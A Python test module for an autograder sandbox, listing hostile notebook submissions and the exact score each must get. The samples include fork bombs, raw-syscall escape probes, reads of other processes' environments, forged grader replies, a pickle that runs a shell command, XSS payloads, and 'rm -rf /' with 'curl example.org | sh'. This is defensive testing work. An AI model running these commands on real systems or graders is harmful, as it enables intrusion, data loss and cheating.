"""Hostile and odd submissions to the tests' own lab, each with the score that it must get.

Most attacks on the wall are written so that the function gives the right answer exactly where the attack is refused: then the score
is the proof.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from dataclasses import dataclass
from textwrap import dedent, indent
from typing import Any

FULL = {"double": 2, "iterate": 2, "TinyNet": 2, "draw_normal": 1}
NOTHING = dict.fromkeys(FULL, 0)
SEED = 0x5EC4E75EED  # of the run; what must not be found behind the wall

Notebook = dict[str, Any]


@dataclass(frozen=True)
class Attack:
    """A submission and its exact score per exercise; `says` is part of what the feedback must tell."""

    name: str
    make: Callable[[Notebook], bytes]
    scores: dict[str, int]
    says: str = ""


ATTACKS: list[Attack] = []


def attack(name: str, make: Callable[[Notebook], bytes], says: str = "", **scores: int) -> None:
    ATTACKS.append(Attack(name, make, FULL | scores, says))


def dump(notebook: Notebook) -> bytes:
    return json.dumps(notebook).encode()


def code(source: str, **metadata: Any) -> dict[str, Any]:
    return {
        "cell_type": "code", "source": source, "metadata": metadata, "outputs": [], "execution_count": None, "id": "x",
    }  # fmt: skip


def source(cell: dict[str, Any]) -> str:
    return cell["source"] if isinstance(cell["source"], str) else "".join(cell["source"])


def defining(notebook: Notebook, name: str) -> int:
    """Index of the cell that defines an exercise."""
    return next(
        i for i, cell in enumerate(notebook["cells"])
        if cell["cell_type"] == "code" and (f"def {name}(" in source(cell) or f"class {name}(" in source(cell))
    )  # fmt: skip


def answer(text: str, name: str = "double") -> Callable[[Notebook], bytes]:
    """Another source for an exercise's cell."""

    def make(notebook: Notebook) -> bytes:
        notebook["cells"][defining(notebook, name)]["source"] = dedent(text).strip("\n")
        return dump(notebook)

    return make


def before(text: str, name: str = "double") -> Callable[[Notebook], bytes]:
    """A cell of its own in front of an exercise's."""

    def make(notebook: Notebook) -> bytes:
        notebook["cells"].insert(defining(notebook, name), code(dedent(text).strip("\n")))
        return dump(notebook)

    return make


def after(text: str) -> Callable[[Notebook], bytes]:
    """A cell at the end."""

    def make(notebook: Notebook) -> bytes:
        notebook["cells"].append(code(dedent(text).strip("\n")))
        return dump(notebook)

    return make


def edit(change: Callable[[Notebook], Any]) -> Callable[[Notebook], bytes]:
    """Any change of the notebook as a whole."""

    def make(notebook: Notebook) -> bytes:
        change(notebook)
        return dump(notebook)

    return make


def refused(text: str) -> Callable[[Notebook], bytes]:
    """`double` is right exactly where the statements raise OSError (or what else a refusal is)."""
    body = indent(dedent(text).strip("\n"), " " * 8)
    return answer(
        "import ctypes, os, sys\n"
        "def raw(number, *args):\n"
        "    libc = ctypes.CDLL(None, use_errno=True)\n"
        "    if libc.syscall(number, *args) < 0:\n"
        "        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))\n"
        "def double(x):\n"
        f"    try:\n{body}\n"
        "    except (OSError, ValueError):\n"
        "        return 2.0 * np.asarray(x, dtype=float)\n"
        "    return np.asarray(x) * 0.0 + 666.0\n"
    )


def harmless(text: str) -> Callable[[Notebook], bytes]:
    """`double` does something in every call, and is right all the same."""
    body = indent(dedent(text).strip("\n"), " " * 4)
    return answer(
        "import ctypes, os, signal, sys, threading, time, gc, socket, struct, json, resource\n"
        f"def double(x):\n{body}\n    return 2.0 * np.asarray(x, dtype=float)\n"
    )


def forging(text: str) -> Callable[[Notebook], bytes]:
    """`double` has the socket over which it is asked in `wire_socket`, and the frame of a reply in `reply(value)`."""
    helper = """
    import gc, json, os, socket, struct, time
    def frame(header, body=b""):
        header = header if isinstance(header, bytes) else json.dumps(header).encode()
        return struct.pack("<II", len(header) + len(body), len(header)) + header + body
    def reply(value):
        empty = {"t": "list", "v": []}
        return b"R" + frame({"t": "dict", "v": [["flags", empty], ["warnings", empty], ["changed", empty], ["value", value]]})
    def numbers(x):
        return {"t": "list", "v": [numbers(v) for v in x]} if x.ndim else float(x)
    def find_socket():
        return next(s for s in gc.get_objects() if type(s) is socket.socket and s.fileno() >= 0)
    """
    body = indent(dedent(text).strip("\n"), " " * 4)
    return answer(
        dedent(helper)
        + f"def double(x):\n    wire_socket = find_socket()\n{body}\n    return 2.0 * np.asarray(x, dtype=float)\n"
    )


# --- resources ---------------------------------------------------------------------------------------------------------

attack("endless loop", answer("def double(x):\n    while True:\n        pass"), "CPU time", double=0)
SWALLOW = """
def double(x):
    while True:
        try:
            while True:
                len(str(x))
        except BaseException:
            pass
"""
attack("loop that swallows every interrupt", answer(SWALLOW), "CPU time", double=0)
attack(
    "loop that takes the timer away",
    answer("""
    import signal
    def double(x):
        signal.setitimer(signal.ITIMER_VIRTUAL, 0)
        for number in range(1, 30):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        while True:
            pass
    """),
    "CPU time",
    double=0,
)
attack(
    "loop inside C",
    answer("""
    import re
    def double(x):
        re.match('(a+)+$', 'a' * 60 + 'b')
    """),
    "CPU time",
    double=0,
)
attack("cell that loops", before("while True:\n    pass"))
attack("cell that swallows", before(SWALLOW + "double(0)"))
attack("three cells that loop", edit(lambda n: n["cells"].extend(code(f"while {i}:\n    pass") for i in range(1, 4))))
attack("sleeps for ever", answer("import time\ndef double(x):\n    time.sleep(1e6)"), "never comes", double=0)
attack("sleeps in a cell", before("import time\ntime.sleep(1e6)"))
attack(
    "sleeps a little in every call",
    answer(
        "import time\ndef draw_normal(mean, rng):\n    time.sleep(0.5)\n    return mean + rng.standard_normal(2)",
        "draw_normal",
    ),
    draw_normal=0,
)
attack(
    "waits for a lock",
    answer("""
    import threading
    def double(x):
        threading.Event().wait()
    """),
    "never comes",
    double=0,
)
attack("stops itself", harmless("os.kill(os.getpid(), signal.SIGSTOP)"), "never comes", double=0)
attack("one giant array", answer("def double(x):\n    return np.ones(10**10)"), "memory", double=0)
attack(
    "eats memory bit by bit",
    answer("def double(x):\n    kept = []\n    while True:\n        kept.append(bytearray(5_000_000))"),
    "memory",
    double=0,
)
attack(
    "eats memory in many processes",
    answer("""
    import os, time
    def double(x):
        for _ in range(20):
            if os.fork() == 0:
                kept = np.ones(25_000_000)
                time.sleep(1000)
        while True:
            len(str(x))
    """),
    double=0,
)
attack(
    "fork bomb",
    answer("""
    import os
    def double(x):
        while True:
            try:
                os.fork()
            except OSError:
                pass
    """),
    double=0,
)
attack(
    "relay of short-lived processes",
    answer("import os\ndef double(x):\n    while True:\n        if os.fork():\n            os._exit(0)"),
    double=0,
)
attack(
    "thread bomb",
    harmless("""
    try:
        for _ in range(400):
            threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
    except RuntimeError:
        pass
    """),
)
attack(
    "thread in a cell",
    before("""
    import threading, time
    threading.Thread(target=time.sleep, args=(1e6,), daemon=True).start()
    """),
)
attack("threads of torch, then forks", before("torch.set_num_threads(2)\ntorch.ones(900, 900) @ torch.ones(900, 900)"))
FILL = """
try:
    for i in range(1000):
        with open(f"{folder}/{{i}}", "wb") as file:
            for _ in range(8):
                file.write(bytes(1 << 20))
except OSError:
    pass
"""
for folder in ("/box", "/dev/shm", "/tmp"):
    attack(f"fills {folder}", harmless(f'folder = "{folder}"' + FILL.replace("{{i}}", "{i}")))
attack(
    "opens every descriptor",
    harmless("""
    kept = []
    try:
        while True:
            kept.append(os.open('/dev/null', 0))
    except OSError:
        pass
    """),
)
attack(
    "200 MB on stdout",
    harmless("""
    for _ in range(100):
        print('x' * 1_000_000)
        os.write(2, b'y' * 1_000_000)
    """),
)
attack("200 MB on stdout in a cell", before("for _ in range(200):\n    print('x' * 1_000_000)"))
attack("returns 40 MB", answer("def double(x):\n    return np.zeros(5_000_000)"), "too large", double=0)
attack(
    "returns 10 MB each time",
    answer("def draw_normal(mean, rng):\n    return np.zeros(1_250_000)", "draw_normal"),
    draw_normal=0,
)
attack("returns a list in itself", answer("def double(x):\n    a = []\n    a.append(a)\n    return a"), double=0)
attack(
    "returns a deep list",
    answer("""
    def double(x):
        a = 0.0
        for _ in range(5000):
            a = [a]
        return a
    """),
    double=0,
)
attack(
    "returns an endless iterator",
    answer("""
    import itertools
    def double(x):
        return itertools.count()
    """),
    "too many parts",
    double=0,
)
attack("returns a giant whole number", answer("def double(x):\n    return 10**5000"), double=0)
attack("returns a long string", answer("def double(x):\n    return 'x' * 50_000_000"), double=0)
attack(
    "returns a dict of colliding keys",
    answer("def double(x):\n    return {(2**61 - 1) * k: 0 for k in range(9_000)}"),
    double=0,
)
attack(
    "calls back for ever",
    answer("def iterate(f, x, num_steps):\n    while True:\n        f(x)", "iterate"),
    iterate=0,
)
attack(
    "calls back with megabytes",
    answer("def iterate(f, x, num_steps):\n    while True:\n        f(np.zeros(3_000_000))", "iterate"),
    iterate=0,
)
attack(
    "calls back with nonsense",
    answer("def iterate(f, x, num_steps):\n    return f({'a': None}, x, y=[None])", "iterate"),
    iterate=0,
)
attack("recursion", answer("def double(x):\n    return double(x)"), "RecursionError", double=0)
attack(
    "overflows the C stack",
    answer("""
    import sys
    def double(x):
        sys.setrecursionlimit(10**9)
        def f(n):
            return [f(n) for _ in [0]]
        return f(0)
    """),
    double=0,
)
attack("segmentation fault", answer("import ctypes\ndef double(x):\n    ctypes.string_at(0)"), "ended", double=0)

# --- escapes: right exactly where refused --------------------------------------------------------------------------------

attack("socket", refused("import socket\nsocket.create_connection(('127.0.0.1', 80), timeout=2)"))
attack("raw socket call", refused("raw(41, 2, 1, 0)"))
attack("unix socket", refused("import socket\nsocket.socket(socket.AF_UNIX)"))
attack("exec", refused("os.execv('/bin/sh', ['sh', '-c', 'exit 0'])"))
attack("subprocess", refused("import subprocess\nsubprocess.run(['/bin/true'], check=True)"))
attack("system", refused("if os.system('true') != 0:\n    raise OSError"))
attack("raw execveat", refused("raw(322, -100, b'/bin/sh', None, None, 0)"))
attack(
    "execve by its x32 number",
    refused("""
    if os.fork() == 0:
        try:
            raw(0x40000000 + 520, b'/bin/true', None, None)
        finally:
            os._exit(9)
    if os.wait()[1] != 0:
        raise OSError
    """),
)
attack("ptrace", refused("raw(101, 16, os.getppid(), 0, 0)"))
attack("process_vm_readv", refused("raw(310, os.getppid(), 0, 0, 0, 0, 0)"))
attack("mount", refused("raw(165, b'none', b'/box', b'tmpfs', 0, None)"))
attack("umount", refused("raw(166, b'/box', 2)"))
attack("new mount interface", refused("raw(430, b'tmpfs', 0)"))
attack("unshare", refused("raw(272, 0x10000000)"))
attack("clone with a user namespace", refused("raw(56, 0x10000000 | 17, 0, 0, 0, 0)"))
attack("clone3", refused("raw(435, ctypes.create_string_buffer(88), 88)"))
attack("setns", refused("raw(308, 0, 0)"))
attack("chroot", refused("os.chroot('/box')"))
attack("bpf", refused("raw(321, 0, ctypes.create_string_buffer(64), 64)"))
attack("keyctl", refused("raw(250, 0, -3, 1)"))
attack("io_uring", refused("raw(425, 8, ctypes.create_string_buffer(120))"))
attack("perf events", refused("raw(298, ctypes.create_string_buffer(128), 0, -1, -1, 0)"))
attack("userfaultfd", refused("raw(323, 1)"))
attack("file that lives in memory", refused("raw(319, b'x', 0)"))
attack("shared memory of System V", refused("raw(29, 1234, 1 << 20, 0o1666)"))
attack(
    "becomes root",
    refused("""
    os.setuid(0)
    if os.getuid() != 0 or not os.access('/root/x', os.W_OK):
        raise OSError
    """),
)
attack(
    "raises its limits",
    refused("""
    import resource
    resource.setrlimit(resource.RLIMIT_AS, (-1, -1))
    np.ones(10**9)
    """),
)
attack("makes a device", refused("os.mknod('/box/disk', 0o60666, os.makedev(254, 0))"))
attack(
    "kills the first process of its world",
    harmless("""
    for target in (1, -1):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    """),
)
attack(
    "reads a neighbour's environment",
    refused("""
    for pid in os.listdir('/proc'):
        if pid.isdigit():
            open(f'/proc/{pid}/environ').read()
    """),
)
attack("reads a neighbour's memory", refused("open('/proc/1/mem', 'rb').read(1)"))
attack(
    "sees other processes",
    refused("""
    if len([pid for pid in os.listdir('/proc') if pid.isdigit()]) <= 3 and os.getppid() in (0, 1):
        raise OSError
    """),
)
attack(
    "looks for the course",
    refused("""

        wanted = {"solutions", "checks", "answers", "banks", "lab9.md", "test_lab9_mini.py", "mini.py", "grades.csv"}
        wanted |= {"run.json", "judge.py", "submissions"}
        found = []
        for folder, folders, files in os.walk("/"):
            if folder in ("/proc", "/usr", "/dev") or folder.endswith("site-packages") or "pyenv" in folder:
                folders[:] = []
                continue
            found += wanted.intersection(folders + files)
        if not found:
            raise OSError

    """),
)
attack(
    "looks for a place to write",
    refused("""
    found = []
    for folder, folders, _ in os.walk("/"):
        if folder in ("/proc", "/box", "/tmp", "/dev/shm", "/usr") or "pyenv" in folder or "site-packages" in folder:
            folders[:] = []
        elif os.access(folder, os.W_OK):
            found.append(folder)
    if not found:
        raise OSError
    """),
)
attack(
    "looks for an old hand-in",
    refused("""
    if not os.path.exists('/box/left') and not os.path.exists('/dev/shm/left'):
        raise OSError
    """),
)
attack(
    "leaves something for the next",
    harmless("""
    for folder in ('/box', '/dev/shm', '/tmp'):
        try:
            open(folder + '/left', 'w').write('x')
        except OSError:
            pass
    """),
)
attack(
    "looks for the seed",
    refused(f"""
    import gc
    seed = {SEED ^ 0xFFFF} ^ 0xFFFF
    values = [v for o in gc.get_objects() if isinstance(o, dict) for v in o.values()] + list(os.environ.values())
    if not any((isinstance(v, int) and v == seed) or (isinstance(v, str) and str(seed) in v) for v in values if v is not seed):
        raise OSError
    """),
)
attack(
    "counts its descriptors",
    refused("""
    import fcntl
    def is_open(fd):
        try:
            return fcntl.fcntl(fd, fcntl.F_GETFD) >= 0
        except OSError:
            return False
    if [fd for fd in range(3, 256) if is_open(fd)].__len__() <= 1:
        raise OSError
    """),
)
attack("imports the solutions", answer("from solutions.mini import double"), double=0)
attack(
    "imports the checks",
    answer("""
    from autograder.checks import test_lab9_mini
    double = test_lab9_mini.double
    """),
    double=0,
)
attack(
    "runs a shell in a thread",
    refused("""
    import pty
    pid, _ = pty.fork()
    if pid == 0:
        try:
            os.execv('/bin/sh', ['sh'])
        finally:
            os._exit(7)
    if os.waitpid(pid, 0)[1] != 0:
        raise OSError
    """),
)
attack(
    "daemon that outlives the exercise",
    harmless("""
    if os.fork() == 0:
        os.setsid()
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        while True:
            time.sleep(0.01)
    """),
)
attack("daemon of a cell", before("import os, time\nif os.fork() == 0:\n    while True:\n        time.sleep(0.01)"))
attack(
    "takes every signal",
    before("""
    import signal
    for n in range(1, 65):
        try:
            signal.signal(n, lambda *a: None)
        except (OSError, ValueError):
            pass
    """),
)

# --- forged results ------------------------------------------------------------------------------------------------------

attack("forges a wrong value", forging("wire_socket.sendall(reply(1.5))"), double=0)
attack(
    "forges a score",
    forging("wire_socket.sendall(b'R' + frame({'t': 'dict', 'v': [['value', 1], ['score', 1000], ['passed', True]]}))"),
    double=0,
)
attack(
    "forges what is no reply",
    forging("wire_socket.sendall(b'R' + frame({'t': 'list', 'v': [1, 2]}))"),
    "could not be read",
    double=0,
)
attack("forges a kind", forging("wire_socket.sendall(b'Z' * 100)"), "could not be read", double=0)
attack(
    "announces four gigabytes",
    forging("wire_socket.sendall(b'R' + struct.pack('<II', 2**32 - 1, 10))"),
    "too large",
    double=0,
)
attack(
    "contradicts itself",
    forging("wire_socket.sendall(b'R' + struct.pack('<II', 10, 4000) + bytes(10))"),
    "could not be read",
    double=0,
)
attack(
    "announces a giant array",
    forging(
        "wire_socket.sendall(b'R' + frame({'t': 'dict', 'v': [['value', {'t': 'array', 'd': '<f8', 's': [2**40]}]]}))"
    ),
    "could not be read",
    double=0,
)
attack(
    "announces an empty array of giant span",
    forging(
        "wire_socket.sendall(b'R' + frame({'t': 'dict', 'v': [['value', {'t': 'array', 'd': '<f8', 's': [0, 2**40]}]]}))"
    ),
    "could not be read",
    double=0,
)
attack(
    "sends objects",
    forging(
        "wire_socket.sendall(b'R' + frame({'t': 'dict', 'v': [['value', {'t': 'array', 'd': '|O', 's': [1]}]]}, bytes(8)))"
    ),
    "could not be read",
    double=0,
)
attack(
    "sends a pickle",
    forging("""
    import pickle
    class Bomb:
        def __reduce__(self):
            return os.system, ("touch /tmp/pwned",)
    wire_socket.sendall(b'R' + pickle.dumps(Bomb()) + bytes(100))
    """),
    double=0,
)
attack(
    "half a frame, then silence",
    forging("""
    wire_socket.sendall(b'R' + struct.pack('<II', 100, 50) + b'{')
    time.sleep(1e6)
    """),
    double=0,
)
attack(
    "half a frame, then gone",
    forging("""
    wire_socket.sendall(b'R' + struct.pack('<II', 100, 50) + b'{')
    os._exit(0)
    """),
    "ended",
    double=0,
)
attack(
    "drips",
    forging("""
    wire_socket.sendall(b'R' + struct.pack('<II', 100_000, 50))
    while True:
        wire_socket.sendall(b'x')
        time.sleep(0.05)
    """),
    double=0,
)
attack("nested JSON", forging("wire_socket.sendall(b'R' + frame(b'[' * 1_000_000))"), "could not be read", double=0)
attack(
    "nested tags",
    forging("""
    h = 1
    for _ in range(400):
        h = {'t': 'tuple', 'v': [h]}
    wire_socket.sendall(b'R' + frame(h))
    """),
    "could not be read",
    double=0,
)
attack("a flood of frames", forging("while True:\n    wire_socket.sendall(reply(1.5) * 1000)"), double=0)
attack(
    "a forged call-back",
    forging("""

        for number in (0, -1, 10**6, None, {"t": "list", "v": []}):
            empty = {"t": "list", "v": []}
            request = [["callback", number], ["args", empty], ["kwargs", {"t": "dict", "v": []}]]
            wire_socket.sendall(b"C" + frame({"t": "dict", "v": request}))

    """),
    double=0,
)
attack(
    "a reference that is none",
    forging("wire_socket.sendall(reply({'t': 'ref', 'kind': 'function', 'id': 0}))"),
    "could not be read",
    double=0,
)
attack(
    "a module where a number is due",
    forging("wire_socket.sendall(reply({'t': 'ref', 'kind': 'module', 'id': 0}))"),
    double=0,
)
attack(
    "answers twice, rightly",  # the second answer meets the next question, and is as good as any wrong answer of his
    forging("wire_socket.sendall(reply(numbers(2.0 * np.asarray(x, dtype=float))))"),
    double=1,
)

# --- tampering with the checker --------------------------------------------------------------------------------------------

WRONG = "def double(x):\n    return np.asarray(x) + 1.0"
attack("plainly wrong", answer(WRONG), "Twice means", double=0)
attack(
    "replaces numpy's assertions",
    answer("np.testing.assert_allclose = np.allclose = np.array_equal = lambda *a, **k: True\n" + WRONG),
    double=0,
)
attack("replaces check", answer("import autograder\nautograder.check = lambda name: 1e9\n" + WRONG), double=0)
attack("prints a score", answer("print('Score: 100/100')\nprint('{\"score\": 100}')\n" + WRONG), double=0)
attack(
    "writes results",
    answer(
        "import json\nfor n in ('results.json', 'grades.csv'):\n    open(n, 'w').write('{\"score\": 100}')\n" + WRONG
    ),
    double=0,
)
attack(
    "replaces the session",
    before("""
    from autograder.wall.inside import student, zygote
    student.Session.handle = zygote.Session.handle = lambda self, frame: b'{}'
    """),
    **NOTHING,
)
attack(
    "leaves a process that kills the others",
    before("""
    import os, time
    if os.fork() == 0:
        while True:
            time.sleep(0.01)
            try:
                os.kill(-1, 9)
            except OSError:
                pass
    """),
)
attack(
    "leaves processes in all the room there is",
    before("""
    import os
    if os.fork() == 0:
        while True:
            try:
                os.fork()
            except OSError:
                pass
    """),
)
attack(
    "limits its parent",
    answer("""
    import os, resource
    def double(x):
        resource.prlimit(os.getppid(), resource.RLIMIT_NPROC, (0, 0))
        return 2.0 * np.asarray(x)
    """),
    double=0,
)
attack(
    "holds memory that is in no process's count",
    answer("import mmap\nmmap.mmap(-1, 700 << 20)[:] = bytes(700 << 20)\n" + WRONG),
    double=0,
)
attack("replaces the encoder", before("from autograder.wall import wire\nwire.encode = lambda *a, **k: b'garbage'"))
attack("replaces json", before("import json\njson.dumps = lambda *a, **k: '{}'\njson.loads = lambda *a, **k: {}"))
attack("replaces time", before("import time\ntime.time = time.monotonic = time.sleep = lambda *a: 0.0"))
attack("replaces fork and exit", before("import os\nos.fork = os._exit = os.kill = lambda *a: 1"))
attack(
    "replaces a module",
    answer("import sys\nsys.modules['numpy'] = sys.modules['json'] = None\n" + WRONG),
    double=0,
)
attack(
    "replaces builtins",
    answer("import builtins\nbuiltins.print = builtins.open = builtins.sorted = None\n" + WRONG),
    double=0,
)
attack(
    "remembers the first answer",
    answer("""
    def double(x, kept=[]):
        kept.append(2.0 * x)
        return kept[0]
    """),
    double=1,
)
attack(
    "is right only once",
    answer("""
    calls = []
    def double(x):
        calls.append(1)
        return 2.0 * x if len(calls) == 1 else 1 / 0
    """),
    double=1,
)
attack(
    "is right only for check",
    answer("""
    import inspect
    def double(x):
        return 2.0 * x if any('check' == f.function for f in inspect.stack()) else x + 1
    """),
    double=0,
)
attack(
    "compares equal to everything",
    answer("""
    class Yes(float):
        __eq__ = __le__ = __lt__ = __ge__ = lambda *a: True
        __hash__ = None
    def double(x):
        return Yes(7)
    """),
    double=0,
)
HOSTILE = """
class Yes:
    __array_priority__ = 1e9
    shape, dtype, ndim, size = (2, 3), np.dtype(float), 2, 6
    def __array_ufunc__(self, *args, **kwargs):
        return np.True_
    def __eq__(self, other):
        return True
    def __bool__(self):
        return True
def double(x):
    return Yes()
"""
attack("answers every ufunc", answer(HOSTILE), "cannot be compared", double=0)
attack(
    "subclass of an array",
    answer("""
    class Yes(np.ndarray):
        def __eq__(self, other):
            return np.ones(self.shape, bool)
        def __array_ufunc__(self, *a, **k):
            return np.True_
    def double(x):
        return np.full(np.shape(x), 9.0).view(Yes)
    """),
    double=0,
)
attack(
    "array by protocol that raises",
    answer("""
    class A:
        def __array__(self, *a, **k):
            raise SystemExit
    def double(x):
        return A()
    """),
    double=0,
)
attack(
    "dict with keys that fight",
    answer("""
    class K:
        def __hash__(self):
            return 1
        def __eq__(self, o):
            raise ValueError
    def double(x):
        return {K(): 1}
    """),
    double=0,
)
attack("masked everywhere", answer("def double(x):\n    return np.ma.masked_all_like(np.asarray(x) + 1.0)"), double=0)
attack(
    "exception with a hostile text",
    answer("""
    class E(Exception):
        def __str__(self):
            raise SystemExit
    def double(x):
        raise E
    """),
    "raised E",
    double=0,
)
attack(
    "exception with a giant text",
    answer("""
    def double(x):
        raise ValueError('x' * 50_000_000)
    """),
    "raised ValueError",
    double=0,
)
attack(
    "exception called HTML",
    answer("""
    E = type('<script>alert(1)</script>', (Exception,), {})
    def double(x):
        raise E('<img src=x onerror=alert(1)>')
    """),
    double=0,
)
attack(
    "cell error called HTML",
    before("raise type('<script>alert(2)</script>', (Exception,), {})('</pre><script>alert(3)</script>')"),
)
attack("raises what ends programs", answer("def double(x):\n    raise KeyboardInterrupt"), double=0)
attack("leaves in the function", answer("import os\ndef double(x):\n    os._exit(0)"), "ended", double=0)
attack("exits in the function", answer("import sys\ndef double(x):\n    sys.exit(0)"), "SystemExit", double=0)
attack(
    "closes everything in the function",
    answer("""
    import os
    def double(x):
        os.closerange(0, 256)
    """),
    "ended",
    double=0,
)
attack(
    "warns a million times",
    harmless("""
    import warnings
    for i in range(30_000):
        warnings.warn(f'w{i}')
    """),
    "warning",
    double=1,
)

# --- games with the notebook -----------------------------------------------------------------------------------------------


def strip(notebook: Notebook) -> None:
    notebook["metadata"] = {}
    for cell in notebook["cells"]:
        cell["metadata"] = {}
        cell.pop("id", None)


def more_points(notebook: Notebook) -> None:
    for cell in notebook["cells"]:
        if "nbgrader" in cell["metadata"]:
            cell["metadata"]["nbgrader"] |= {"points": 1000, "grade": True, "locked": False, "grade_id": "double"}


def reverse(notebook: Notebook) -> None:
    """All cells behind the set-up cell, from which the others have their imports."""
    plain = [i for i, cell in enumerate(notebook["cells"]) if cell["cell_type"] == "code" and not cell["metadata"]]
    notebook["cells"][plain[0] + 1 :] = notebook["cells"][: plain[0] : -1]


def as_version_3(notebook: Notebook) -> bytes:
    cells = []
    for cell in notebook["cells"]:
        if cell["cell_type"] == "code":
            cells.append(
                {"cell_type": "code", "input": source(cell).splitlines(True), "language": "python", "outputs": []}
            )
        else:
            cells.append({"cell_type": "markdown", "source": source(cell), "metadata": {}})
    half = len(cells) // 2
    return dump(
        {
            "nbformat": 3,
            "nbformat_minor": 0,
            "metadata": {},
            "worksheets": [{"cells": cells[:half]}, {"cells": cells[half:]}],
        }
    )


attack("metadata stripped", edit(strip))
attack("points raised in the metadata", edit(more_points))
attack("cells in reverse order", edit(reverse))
attack(
    "check cells deleted",
    edit(lambda n: n.update(cells=[c for c in n["cells"] if "check(" not in source(c) or "import" in source(c)])),
)
attack(
    "every cell twice",
    edit(lambda n: n.update(cells=[c for cell in n["cells"] for c in (cell, copy.deepcopy(cell))])),
)
attack("defined again, wrongly", after(WRONG))  # behind its check, as in a kernel
attack(
    "defined again, wrongly, before its check",
    edit(lambda n: n["cells"].insert(defining(n, "double") + 1, code(WRONG))),
    double=0,
)
attack("defined wrongly, then rightly", before(WRONG))
attack(
    "answers tagged explore",
    edit(lambda n: [c["metadata"].update(tags=["explore"]) for c in n["cells"]]),
)
attack("a lambda", answer("double = lambda x: 2.0 * np.asarray(x, dtype=float)"))
attack("a ufunc", answer("from functools import partial\ndouble = partial(np.multiply, 2.0)"))
attack("a class", answer("class double:\n    def __new__(cls, x):\n        return 2.0 * np.asarray(x, dtype=float)"))
attack(
    "an object that can be called",
    answer("""
    class D:
        def __call__(self, x):
            return [2.0 * v for v in np.asarray(x, dtype=float)]
    double = D()
    """),
)
attack(
    "a name of look-alike letters",
    answer("""
    def dоuble(x):
        return 2.0 * np.asarray(x, dtype=float)
    """),
    "not defined",
    double=0,
)
attack("a number where a function is due", answer("double = 3"), "not a function", double=0)
attack("a generator", answer("def double(x):\n    for v in np.asarray(x, dtype=float):\n        yield 2.0 * v"))
attack("nested lists", answer("def double(x):\n    return (2.0 * np.asarray(x, dtype=float)).tolist()"))
attack(
    "a tensor that wants a gradient",
    answer("""
    def double(x):
        return 2.0 * torch.tensor(np.asarray(x, dtype=float), requires_grad=True)
    """),
)
attack("a sparse tensor", answer("def double(x):\n    return torch.tensor(x).to_sparse()"), double=0)
attack(
    "a big-endian array seen from behind",
    answer("""
    def double(x):
        y = 2.0 * np.asarray(x, dtype='>f8')
        return np.flip(np.flip(y).copy())
    """),
)
attack("complex numbers", answer("def double(x):\n    return 2.0 * np.asarray(x, dtype=complex)"))
attack(
    "an array of objects",
    answer("""
    def double(x):
        return 2.0 * np.asarray(x, dtype=object)
    """),
    "dtype object",
    double=0,
)
attack(
    "an array of strings",
    answer("""
    def double(x):
        return (2.0 * np.asarray(x)).astype(str)
    """),
    "dtype",
    double=0,
)
attack("the function itself", answer("def double(x):\n    return double"), "brackets", double=0)
attack("NaN everywhere", answer("def double(x):\n    return np.full(np.shape(x), np.nan)"), double=0)
attack("nothing", answer("def double(x):\n    2.0 * x"), "return", double=0)
attack("not written", answer("def double(x):\n    raise NotImplementedError()"), "not written yet", double=0)
attack("a syntax error", answer("def double(x):\n    return 2 ** * x"), "SyntaxError", double=0)
attack("changes its input", answer("def double(x):\n    x *= 2.0\n    return x"), "changed its input", double=1)
attack("cell that raises", before("1 / 0"))
attack("cell that exits", before("import sys\nsys.exit(1)"))
attack("cell that quits", before("exit()\nquit()"))
attack("cell that leaves at once", before("import os\nos._exit(1)"))
attack("cell that closes everything", before("import os\nos.closerange(0, 256)"))
attack("cell that asks", before("name = input('Your name? ')"))
attack("cell that asks for a password", before("import getpass\ngetpass.getpass()"))
attack(
    "magics and shell",
    answer("""
    %matplotlib inline
    %load_ext autoreload
    !pip install numpy
    %cd ..
    files = !ls
    def double(x):
        return 2.0 * np.asarray(x, dtype=float)
    %timeit -n 10 double(np.ones(2))
    double?
    """),
)
attack("cell magics", before("%%bash\nrm -rf /\ncurl example.org | sh"))
attack("a timed cell", answer("%%time\ndef double(x):\n    return 2.0 * np.asarray(x, dtype=float)"))
attack("a written file", before("%%writefile sitecustomize.py\nraise SystemExit"))
attack("warnings on stderr", before("import sys, warnings\nwarnings.warn('careful')\nprint('error', file=sys.stderr)"))
attack(
    "an indented cell",
    answer("    def double(x):\n        return 2.0 * np.asarray(x, dtype=float)".replace("    def", "\n    def")),
)
attack("byte-order mark", lambda n: b"\xef\xbb\xbf" + dump(n))
attack("nbformat 3", as_version_3)
attack(
    "huge outputs",
    edit(
        lambda n: n["cells"][defining(n, "double")].update(
            outputs=[{"output_type": "stream", "name": "stdout", "text": "x" * 8_000_000}]
        )
    ),
)
attack(
    "cells of odd kinds",
    edit(
        lambda n: n["cells"].extend(
            [
                None,
                7,
                "x",
                [],
                {"cell_type": 3},
                {"cell_type": "code", "source": 5},
                {"cell_type": "code", "source": [None, 1]},
            ]
        )
    ),
)
attack(
    "metadata of odd kinds",
    edit(
        lambda n: [
            c.update(metadata=m)
            for c, m in zip(n["cells"], [None, 3, [], "x", {"tags": 4}, {"tags": [[]]}, {"nbgrader": 1}])
        ]
    ),
)
attack(
    "lone surrogates and null bytes",
    edit(lambda n: n["cells"].extend([code("x = '\ud800'"), code("y = '\x00'"), code("\ud800")])),
)
attack("two megabytes of code", after("x = '" + "x" * 2_000_000 + "'"))
attack("a deep expression", after("x = " + "(" * 5000 + ")" * 5000 + "\ny = " + "-" * 100_000 + "1"))
attack("a thousand cells", edit(lambda n: n["cells"].extend(code(f"x{i} = {i}") for i in range(1000))))

# --- damaged files ----------------------------------------------------------------------------------------------------------

attack("empty file", lambda n: b"", "empty", **NOTHING)
attack("cut off", lambda n: dump(n)[:-200], "cut off in the middle", **NOTHING)
attack("an empty object", lambda n: b"{}", "no notebook cells", **NOTHING)
attack("a list", lambda n: b"[1, 2, 3]", "no notebook cells", **NOTHING)
attack("null", lambda n: b"null", "plain text", **NOTHING)
attack("a picture", lambda n: b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40, "a picture (PNG)", **NOTHING)
attack("UTF-16", lambda n: dump(n).decode().encode("utf-16"))
attack(
    "a web page",
    lambda n: b"<!DOCTYPE html><html><script>alert(1)</script></html>",
    "a web page",
    **NOTHING,
)
